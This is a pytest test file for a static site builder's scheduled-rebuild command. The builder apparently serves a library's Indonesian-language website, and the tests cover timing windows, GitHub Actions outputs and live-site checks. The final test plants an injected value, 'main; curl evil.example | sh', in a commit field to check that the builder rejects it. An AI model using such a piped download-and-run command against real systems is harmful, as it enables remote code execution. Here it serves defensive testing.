"""`build.py due`: whether the clock changed the site lately, so an hourly scheduled
workflow builds and publishes only when it did.

Each answer is checked against real builds: "due" means a build now differs from a
build at the start of the window; "nothing due" means the two are byte for byte
the same.
"""

from __future__ import annotations

import json

import pytest

from conftest import dedent, make_site, run, snapshot

SCHEDULED = "Libur Layanan Hari Guru"
PROGRAM = "Kelas Membatik"

FILES = {
    "content/news/2026-11-20-pojok-baca-baru.md": dedent("""\
        ---
        title: Pojok Baca Baru di Balai Desa
        date: 2026-11-20 08:00
        ---
        Pojok baca baru dibuka untuk warga.
        """),
    "content/news/2026-11-26-libur-layanan.md": dedent(f"""\
        ---
        title: {SCHEDULED}
        date: 2026-11-26 09:00
        ---
        Layanan perpustakaan libur pada Hari Guru.
        """),
    "content/schedule.yaml": dedent(f"""\
        programs:
          - id: membatik
            title: {PROGRAM}
            location: Aula Utama
            sessions:
              - date: 2026-11-26
                start: 13:00
                end: 15:00
        """),
}


@pytest.fixture
def root(tmp_path):
    return make_site(tmp_path, FILES)


def due(root, now: str, *args: str):
    return run(root, "due", *args, now=now)


def built(root, now: str, name: str) -> dict[str, bytes]:
    """The site built at `now` into its own folder, every file's bytes."""
    output = root / name
    result = run(root, "build", "--output", str(output), "--no-cache", now=now)
    assert result.code == 0, result.err
    return snapshot(output)


def test_a_scheduled_item_whose_time_came_is_due_and_a_build_then_publishes_it(root):
    answer = due(root, "2026-11-26T09:30", "--exit-code")
    assert answer.code == 0, answer.err
    assert "Perlu dibangun ulang" in answer.out
    assert f'2026-11-26 09:00: berita "{SCHEDULED}" terbit' in answer.out
    before, now = built(root, "2026-11-26T07:30", "before"), built(root, "2026-11-26T09:30", "now")
    assert "berita/libur-layanan/index.html" in now
    assert "berita/libur-layanan/index.html" not in before


def test_nothing_due_means_the_build_now_is_the_build_of_two_hours_ago(root):
    answer = due(root, "2026-11-26T12:00", "--exit-code")
    assert answer.code == 3, answer.out
    assert "Tidak perlu dibangun ulang" in answer.out
    assert "2026-11-26 10:00" in answer.out and "2026-11-26 12:00" in answer.out
    # what comes next is said, so staff know when their item will show
    assert f'Perubahan berikutnya: 2026-11-26 15:00: sesi "{PROGRAM}" selesai' in answer.out
    assert built(root, "2026-11-26T10:00", "before") == built(root, "2026-11-26T12:00", "now")


def test_a_session_is_due_when_it_ends_not_when_it_starts(root):
    # 13:00 started: the site is the same (the session stays "upcoming" until it ends)
    assert due(root, "2026-11-26T14:30", "--exit-code").code == 3
    assert built(root, "2026-11-26T12:30", "a") == built(root, "2026-11-26T14:30", "b")
    ended = due(root, "2026-11-26T15:30", "--exit-code")
    assert ended.code == 0
    assert f'2026-11-26 15:00: sesi "{PROGRAM}" selesai' in ended.out
    assert built(root, "2026-11-26T13:30", "c") != built(root, "2026-11-26T15:30", "d")


def test_a_new_day_is_due(root):
    answer = due(root, "2026-11-25T00:05")
    assert answer.code == 0
    assert "2026-11-25 00:00: hari berganti" in answer.out
    assert "Perlu dibangun ulang" in answer.out


def test_the_window_is_minutes_long(root):
    # 09:00 is 45 minutes before 09:45: due within 60 minutes, not within 30
    assert due(root, "2026-11-26T09:45", "--minutes", "60", "--exit-code").code == 0
    assert due(root, "2026-11-26T09:45", "--minutes", "30", "--exit-code").code == 3


def test_without_exit_code_it_succeeds_either_way(root):
    assert due(root, "2026-11-26T12:00").code == 0
    assert due(root, "2026-11-26T09:30").code == 0


def test_on_github_actions_it_sets_the_step_output(root, tmp_path, monkeypatch):
    output = tmp_path / "github-output"
    output.write_text("")
    monkeypatch.setenv("GITHUB_OUTPUT", str(output))
    due(root, "2026-11-26T09:30")
    due(root, "2026-11-26T12:00")
    assert output.read_text().splitlines() == ["due=true", "due=false"]


def test_a_content_error_is_reported_at_its_line_and_exits_1(root):
    path = root / "content/news/2026-11-20-pojok-baca-baru.md"
    path.write_text(path.read_text().replace("2026-11-20 08:00", "2026-13-20"))
    answer = due(root, "2026-11-26T09:30", "--exit-code")
    assert answer.code == 1
    assert "content/news/2026-11-20-pojok-baca-baru.md:3:" in answer.err
    assert "bulan 13" in answer.err
    assert "Perlu dibangun ulang" not in answer.out


@pytest.mark.parametrize("minutes", ["0", "dua", "-5"])
def test_a_wrong_number_of_minutes_is_wrong_usage(root, minutes):
    assert due(root, "2026-11-26T09:30", f"--minutes={minutes}").code == 2


def test_a_missing_content_folder_is_wrong_usage(tmp_path):
    answer = run(tmp_path / "nowhere", "due", now="2026-11-26T09:30")
    assert answer.code == 2 and "folder konten tidak ada" in answer.err


def test_a_build_names_each_item_held_back_until_its_date(root):
    """So staff who committed an item dated ahead see, in the build's log, when it shows."""
    first = run(root, "build", now="2026-11-24T09:00")
    assert first.code == 0, first.err
    line = (f'Terjadwal: content/news/2026-11-26-libur-layanan.md: "{SCHEDULED}" tayang pada '
            "build pertama sejak 2026-11-26 09:00 WIB.")
    assert line in first.out.splitlines()
    again = run(root, "build", now="2026-11-24T09:30")   # nothing changed: still said
    assert "tidak ada yang berubah" in again.out and line in again.out.splitlines()
    quiet = run(root, "build", "-q", now="2026-11-24T09:45")
    assert "Terjadwal" not in quiet.out
    out = run(root, "build", now="2026-11-26T09:00")   # published: no longer held back
    assert out.code == 0 and "Terjadwal" not in out.out


def test_a_draft_dated_ahead_is_never_announced_nor_due(root):
    """A draft is not published at its date: no build names it as held back, and its
    date passing makes nothing due (the built sites before and after are the same)."""
    (root / "content/news/2026-11-25-rencana.md").write_text(
        "---\ntitle: Rencana Bazar\ndate: 2026-11-25 10:00\ndraft: true\n---\nIsi.\n",
        encoding="utf-8")
    first = run(root, "build", now="2026-11-24T09:00")
    assert first.code == 0, first.err
    assert "Terjadwal: content/news/2026-11-26-libur-layanan.md" in first.out
    assert "Rencana" not in first.out
    answer = due(root, "2026-11-25T10:30", "--exit-code")
    assert answer.code == 3, answer.out
    assert "Rencana" not in answer.out
    assert built(root, "2026-11-25T09:30", "before") == built(root, "2026-11-25T10:30", "now")


def test_check_on_github_notes_each_scheduled_item_at_its_date(root, monkeypatch):
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    checked = run(root, "check", now="2026-11-24T09:00")
    assert checked.code == 0, checked.err
    assert ("::notice file=content/news/2026-11-26-libur-layanan.md,line=3,title=catatan::"
            f'terjadwal: "{SCHEDULED}" tayang pada build pertama sejak 2026-11-26 09:00 WIB'
            ) in checked.out.splitlines()
    monkeypatch.delenv("GITHUB_ACTIONS")
    assert "::notice" not in run(root, "check", now="2026-11-24T09:00").out


def test_a_scheduled_items_time_written_in_utc_is_said_in_the_sites_time(tmp_path):
    """`date: 2026-12-06T10:00:00Z` shows from 17:00 WIB: said so, not "10:00"."""
    root = make_site(tmp_path, {"content/news/2026-12-06-rapat.md":
                                "---\ntitle: Rapat\ndate: 2026-12-06T10:00:00Z\n---\nIsi.\n"})
    result = run(root, "build", now="2026-12-06T09:00")
    assert result.code == 0, result.err
    assert ('Terjadwal: content/news/2026-12-06-rapat.md: "Rapat" tayang pada build pertama '
            "sejak 2026-12-06 17:00 WIB.") in result.out


def test_live_asks_the_published_site_whether_it_is_behind(tmp_path, monkeypatch):
    """`due --live` asks the published site (its site-builder.json): a commit whose run was
    cancelled or whose deployment failed, or hourly runs that came late, left the live
    site behind for hours while the window of minutes said nothing was due."""
    from browser import serve

    host = tmp_path / "host"
    host.mkdir()
    answers = tmp_path / "github-output"
    monkeypatch.setenv("GITHUB_OUTPUT", str(answers))

    def asked(now: str, commit: str) -> tuple[str, str]:
        monkeypatch.setenv("GITHUB_SHA", commit)
        answers.write_text("")
        result = due(root, now, "--live")
        assert result.code == 0, result.err
        return result.out, answers.read_text()

    with serve(host) as base:
        root = make_site(tmp_path / "site", {
            **FILES, "content/site.yaml": f"title: Perpustakaan Uji\nbase_url: {base}\n"})
        monkeypatch.setenv("GITHUB_SHA", "a" * 40)
        assert run(root, "build", "--output", str(host), now="2026-11-24T09:00").code == 0
        out, answer = asked("2026-11-24T10:05", "a" * 40)
        assert "sudah yang terbaru" in out and answer == "due=false\n"
        # a newer commit than the one published: due, whatever the window says
        out, answer = asked("2026-11-24T10:05", "b" * 40)
        assert "dibuat dari commit aaaaaaa, bukan dari commit terbaru bbbbbbb" in out
        assert answer == "due=true\n"
        # past the moment the published site stops being right (midnight, a new day):
        # due, though nothing changed within the window (10:00 to 12:00 on the 25th)
        assert "Tidak perlu" in due(root, "2026-11-25T12:00").out
        out, answer = asked("2026-11-25T12:00", "a" * 40)
        assert "hanya berlaku sampai 2026-11-25 00:00" in out and answer == "due=true\n"
    # the site cannot be reached: the window, as without --live
    out, answer = asked("2026-11-25T12:00", "a" * 40)
    assert "tidak bisa dibaca" in out and "dipakai jendela 120 menit" in out
    assert answer == "due=false\n"


def test_every_build_publishes_its_record(tmp_path, monkeypatch):
    root = make_site(tmp_path, FILES)
    monkeypatch.setenv("GITHUB_SHA", "c" * 40)
    assert run(root, "build", now="2026-11-26T08:00").code == 0
    record = json.loads((root / "output/site-builder.json").read_text())
    # the next moment the same content makes another site: the item dated 09:00
    assert record == {"commit": "c" * 40, "valid_until": "2026-11-26T09:00:00+07:00"}


def test_while_the_newest_commit_has_errors_the_live_commit_is_built_when_due(
        tmp_path, monkeypatch):
    """A content error on main froze the live site: every hourly run failed on it, and
    "Hari ini", past sessions and scheduled items stood still until someone fixed it.
    `due --live` names the commit the live site was built from, for the workflow to
    build instead, when that site is past the moment it stops being right."""
    from browser import serve

    host = tmp_path / "host"
    host.mkdir()
    answers = tmp_path / "github-output"
    monkeypatch.setenv("GITHUB_OUTPUT", str(answers))
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    good, newest = "a" * 40, "b" * 40

    def asked(now: str, *args: str):
        answers.write_text("")
        return due(root, now, "--live", *args), answers.read_text()

    with serve(host) as base:
        root = make_site(tmp_path / "site", {
            **FILES, "content/site.yaml": f"title: Perpustakaan Uji\nbase_url: {base}\n"})
        monkeypatch.setenv("SITE_BUILDER_COMMIT", good)   # as the workflow's Build step
        assert run(root, "build", "--output", str(host), now="2026-11-24T09:00").code == 0
        monkeypatch.delenv("SITE_BUILDER_COMMIT")
        assert json.loads((host / "site-builder.json").read_text())["commit"] == good
        monkeypatch.setenv("GITHUB_SHA", newest)
        (root / "content/news/2026-11-20-pojok-baca-baru.md").write_text(
            "---\ntitle: Pojok Baca\ndate: 2026-11-31\n---\nIsi.\n")

        # the site published at 09:00 is right until midnight: nothing to build yet
        result, answer = asked("2026-11-24T10:05")
        assert result.code == 0, result.err
        assert "2026-11-20-pojok-baca-baru.md:3" in result.err   # the error is still told
        assert "::warning title=Situs dibangun dari commit sebelumnya::commit terbaru " \
               "(bbbbbbb) berisi kesalahan" in result.out
        assert answer == f"due=false\ngood={good}\n"
        # a new day: build the live commit again, with the clock of today
        result, answer = asked("2026-11-25T00:05")
        assert result.code == 0 and "Perlu dibangun ulang dari commit aaaaaaa" in result.out
        assert answer == f"due=true\ngood={good}\n"
        assert asked("2026-11-24T10:05", "--exit-code")[0].code == 3

        # no other commit to go back to: the error stops the run, as before
        monkeypatch.setenv("GITHUB_SHA", good)
        result, answer = asked("2026-11-25T00:05")
        assert result.code == 1 and answer == ""
        # a record that is not a commit id is never passed on (it goes into git)
        monkeypatch.setenv("GITHUB_SHA", newest)
        (host / "site-builder.json").write_text(json.dumps(
            {"commit": "main; curl evil.example | sh", "valid_until": "2026-11-25T00:00:00+07:00"}))
        result, answer = asked("2026-11-25T00:05")
        assert result.code == 1 and answer == ""
    # without --live, as before
    assert due(root, "2026-11-25T00:05").code == 1
